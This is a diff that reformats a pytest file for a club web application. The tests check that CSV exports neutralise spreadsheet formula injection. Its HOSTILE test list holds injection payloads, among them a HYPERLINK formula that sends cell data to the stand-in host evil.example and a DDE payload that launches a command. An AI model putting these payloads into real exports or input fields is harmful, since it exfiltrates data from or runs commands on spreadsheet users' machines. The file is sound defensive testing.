@@ -22,8 +22,16 @@ from app.core import csvout
 from app.extensions import db
 
 APP = pathlib.Path(__file__).resolve().parents[2] / "app"
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"klick\")", "+49 30 1234", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "=1;=2", '"=1"']
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1;"klick")',
+    "+49 30 1234",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1;=2",
+    '"=1"',
+]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -39,6 +47,7 @@ def _assert_safe(text: str, delimiter: str = ",") -> list[str]:
 
 
 # --- the helper -------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_hostile_cells_are_neutralised_and_kept(value):
@@ -64,12 +73,16 @@ def test_plain_values_numbers_and_none():
 
 def test_app_writes_csv_only_through_the_helper():
     pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|^\s*(import csv|from csv import)", re.M)
-    offenders = [str(path.relative_to(APP.parent)) for path in APP.rglob("*.py")
-                 if path.name != "csvout.py" and pattern.search(path.read_text(encoding="utf-8"))]
+    offenders = [
+        str(path.relative_to(APP.parent))
+        for path in APP.rglob("*.py")
+        if path.name != "csvout.py" and pattern.search(path.read_text(encoding="utf-8"))
+    ]
     assert not offenders, f"write CSV with app.core.csvout, not the csv module: {offenders}"
 
 
 # --- the exports ------------------------------------------------------------------------------
+
 
 def test_club_export_csv_files_have_no_formula_cells(roles, client_for, make_user):
     from app.clubs.models import Membership, Role
@@ -102,8 +115,14 @@ def test_checklist_csv_has_no_formula_cells(roles, client_for):
     sync()
     names = {roles.board.id: roles.board.name}
     for item, value in zip(current_items(), HOSTILE, strict=False):
-        save_answer(roles.club, item, roles.board, {"status": "no", "note": value, "responsible_id": None,
-                                                     "due_date": None}, 0, names)
+        save_answer(
+            roles.club,
+            item,
+            roles.board,
+            {"status": "no", "note": value, "responsible_id": None, "due_date": None},
+            0,
+            names,
+        )
     db.session.commit()
     response = client_for(roles.member).get(f"/c/{roles.club.slug}/datenschutz/antworten.csv")
     assert response.status_code == 200
@@ -116,16 +135,24 @@ def test_workshop_participant_list_has_no_formula_cells(roles, client_for, make_
     from app.workshops.models import Registration, Workshop
 
     start = datetime.now(timezone.utc).replace(microsecond=0) + timedelta(days=7)
-    workshop = Workshop(title="Sicher im Netz", description="", topic="online-sicherheit", starts_at=start,
-                        duration_minutes=90, online=True, capacity=10, registration_deadline=start - timedelta(hours=1))
+    workshop = Workshop(
+        title="Sicher im Netz",
+        description="",
+        topic="online-sicherheit",
+        starts_at=start,
+        duration_minutes=90,
+        online=True,
+        capacity=10,
+        registration_deadline=start - timedelta(hours=1),
+    )
     db.session.add(workshop)
     db.session.flush()
     for i, value in enumerate(HOSTILE):
-        db.session.add(Registration(workshop_id=workshop.id, name=value, email=f"{value[:1]}x{i}@example.org",
-                                    status="confirmed"))
+        db.session.add(
+            Registration(workshop_id=workshop.id, name=value, email=f"{value[:1]}x{i}@example.org", status="confirmed")
+        )
     db.session.commit()
     response = client_for(roles.staff).get(f"/admin/workshops/{workshop.id}/teilnehmende.csv")
     assert response.status_code == 200
     _assert_safe(response.get_data(as_text=True), ";")
     assert db.session.scalar(sa.select(sa.func.count()).select_from(Registration)) == len(HOSTILE)
-
